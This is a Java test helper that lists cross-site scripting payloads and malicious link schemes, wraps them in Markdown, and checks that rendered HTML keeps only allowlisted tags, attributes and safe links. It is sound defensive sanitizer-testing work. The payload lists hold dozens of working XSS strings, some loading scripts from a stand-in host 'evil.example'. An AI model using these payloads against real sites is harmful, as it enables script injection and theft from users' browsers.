package org.preau.shared.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.springframework.web.util.HtmlUtils;

/** What people write who want it to run in somebody else's browser. */
public final class Scripts {

    private static final Set<String> ELEMENTS = Set.of(
            "p",
            "br",
            "strong",
            "em",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "hr",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "span",
            "a");
    private static final Set<String> ATTRIBUTES = Set.of("href", "rel", "class", "start", "align", "title");
    private static final Pattern TAG = Pattern.compile("<(/?)([^\\s>/]*)([^>]*)>");
    private static final Pattern ATTRIBUTE = Pattern.compile("([^\\s=\"'/]+)(?:=\"([^\"]*)\")?");

    /** As a name or a title bears them. */
    public static final List<String> PAYLOADS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img/src=`x`onerror=alert(1)>",
            "<img src=x:alert(alt) onerror=eval(src) alt=0>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x>",
            "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
            "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
            "<math href=javascript:alert(1)>x</math>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<object data=javascript:alert(1)>",
            "<embed src=data:text/html,<script>alert(1)</script>>",
            "<body onload=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x",
            "<isindex action=javascript:alert(1) type=image>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href='java\tscript:alert(1)'>x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=vbscript:msgbox(1)>x</a>",
            "<base href=//evil.example>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=import href=//evil.example>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<style>@import '//evil.example';</style>",
            "<style>*{background:url(javascript:alert(1))}</style>",
            "<p style=x:expression(alert(1))>",
            "<div style=\"background:url(//evil.example)\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<textarea></textarea><img src=x onerror=alert(1)>",
            "<title></title><script>alert(1)</script>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml-stylesheet href=javascript:alert(1)?>",
            "<x onclick=alert(1)>click",
            "\"><script>alert(1)</script>",
            "'><img src=x onerror=alert(1)>",
            "</p><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "\u0000<script>alert(1)</script>",
            "<\u0000script>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
            "+ADw-script+AD4-alert(1)");

    private static final List<String> LINKS = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            " javascript:alert(1)",
            "java\nscript:alert(1)",
            "javascript&colon;alert(1)",
            "&#x6A;avascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "blob:x",
            "\\x01javascript:alert(1)",
            "x\" onmouseover=\"alert(1)",
            "x' onmouseover='alert(1)",
            "//evil.example\"onclick=alert(1)");

    private Scripts() {}

    /** As a text bears them, with all that Markdown can do to them. */
    public static Stream<String> inMarkdown() {
        var inLinks = LINKS.stream()
                .flatMap(link -> Stream.of(
                        "[x](" + link + ")",
                        "[x](<" + link + ">)",
                        "![x](" + link + ")",
                        "<" + link + ">",
                        "[x][r]\n\n[r]: " + link,
                        "[x](a \"" + link + "\")"));
        var inTexts = PAYLOADS.stream()
                .flatMap(payload -> Stream.of(
                        payload,
                        "**" + payload + "**",
                        "`" + payload + "`",
                        "```" + payload + "\n" + payload + "\n```",
                        "> " + payload,
                        "- " + payload,
                        "| a |\n|---|\n| " + payload + " |",
                        "[" + payload + "](https://example.org)",
                        "![" + payload + "](https://example.org/x.png)",
                        "@[" + payload + "](member:0193b0c0-0000-7000-8000-000000000001)",
                        "@[x](member:" + payload + ")",
                        "# " + payload));
        return Stream.concat(inLinks, inTexts);
    }

    /** Elements and attributes of a closed list, links to safe places, and nothing else. */
    public static void assertHarmless(String html) {
        TAG.matcher(html).results().forEach(tag -> {
            assertThat(ELEMENTS).as(html).contains(tag.group(2));
            ATTRIBUTE
                    .matcher(tag.group(3))
                    .results()
                    .forEach(attribute -> harmless(html, attribute.group(1), attribute.group(2)));
        });
        assertThat(TAG.matcher(html).replaceAll("")).as("what is left is text").doesNotContain("<");
    }

    private static void harmless(String html, String name, String value) {
        assertThat(ATTRIBUTES).as(html).contains(name);
        if (name.equals("href")) {
            assertThat(HtmlUtils.htmlUnescape(value)).as(html).matches("(?s)(?:https?:|mailto:|[^:/?#]*(?:[/?#]|$)).*");
        }
    }
}
